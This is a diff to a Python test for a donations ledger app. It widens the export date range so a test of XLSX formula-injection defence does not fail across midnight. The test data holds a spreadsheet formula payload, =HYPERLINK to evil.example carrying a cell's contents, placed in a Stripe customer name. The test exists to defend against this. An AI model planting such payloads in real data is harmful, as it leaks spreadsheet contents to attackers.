@@ -14,6 +14,7 @@ from sqlalchemy import func, select, text
 from donations.extensions import db
 from donations.ledger.models import Donation, LedgerLine, Payout, StripeEvent
 from donations.ledger.payouts import close_books, reconcile_payouts
+from tests.dates import recent_days
 from tests.factories import checkout_session, event, make_attempt, post_event
 from tests.functional.test_payouts import (  # noqa: F401  (fixtures)
     T0, balance, books, charge_of, fake_balance, gift, payout_object,
@@ -56,10 +57,10 @@ def test_a_name_from_stripe_with_a_control_character_never_becomes_an_xlsx_formu
     # Stripe's customer details are not cleaned like the donation form's fields.
     session["customer_details"]["name"] = '\x0b=HYPERLINK("https://evil.example/?d="&C2,"Open")'
     assert post_event(client, event("checkout.session.completed", session)).status_code == 200
-    day = datetime.now(timezone.utc).date().isoformat()
+    start, end = recent_days()  # yesterday and today: the gift is in it even if midnight passed since
     path = tmp_path / "d.xlsx"
 
-    export(app_ctx, "donations", "--from", day, "--to", day, "--format", "xlsx", "--output", str(path))
+    export(app_ctx, "donations", "--from", start, "--to", end, "--format", "xlsx", "--output", str(path))
 
     sheet = load_workbook(path)["EUR"]
     name = sheet.cell(row=2, column=4)
